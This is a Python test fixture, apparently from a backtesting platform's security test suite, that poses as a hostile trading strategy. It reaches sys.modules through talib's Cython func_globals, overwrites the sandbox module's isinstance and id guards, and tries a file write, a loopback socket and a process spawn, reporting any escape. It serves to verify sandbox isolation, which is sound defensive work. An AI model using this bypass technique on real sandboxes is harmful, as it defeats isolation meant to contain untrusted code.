"""Cython function globals: ``talib.func.bytes2str.func_globals['sys']`` -> ``sys.modules``.

Attack (issue, talib-only style): a Cython function exposes its module's globals as
``func_globals``; from ``sys.modules`` the strategy takes ``os``, ``socket`` and
``subprocess``, overwrites ``isinstance`` and ``id`` in ``alphaloop.backtest.sandbox`` (the
trick that switched the old guards off), then writes into the canary folder, connects to the
loopback listener and spawns a process.
Stopped by: Landlock (write), seccomp (socket, clone/execve). Overwriting the sandbox's globals
changes only this throw-away process.
"""

import talib

PARAMETERS = {}


def generate_positions(data, **params):
    modules = talib.func.bytes2str.func_globals["sys"].modules
    os_ = modules["os"]
    sandbox = modules.get("alphaloop.backtest.sandbox")
    if sandbox is not None:
        sandbox.isinstance = lambda *a: True
        sandbox.id = lambda *a: 0
    socket = __import__("socket")
    subprocess = __import__("subprocess")
    log, escaped = [], []
    try:
        with open("@@CANARY_DIR@@/hostile-talib_func_globals", "w") as f:
            f.write("x")
        escaped.append("write")
    except Exception as exc:
        log.append(f"write: {type(exc).__name__}")
    try:
        socket.create_connection(("127.0.0.1", int("@@TCP_PORT@@")), timeout=2).close()
        escaped.append("socket")
    except Exception as exc:
        log.append(f"socket: {type(exc).__name__}")
    marker = os_.path.join(os_.getcwd(), "spawned-marker")
    try:
        subprocess.run(["touch", marker], timeout=5)
    except Exception as exc:
        log.append(f"spawn: {type(exc).__name__}")
    if os_.path.exists(marker):
        escaped.append("spawn")
    if escaped:
        raise RuntimeError("HOSTILE" + "-ESCAPED " + " ".join(escaped))
    raise RuntimeError("talib globals reached sys.modules; " + "; ".join(log))
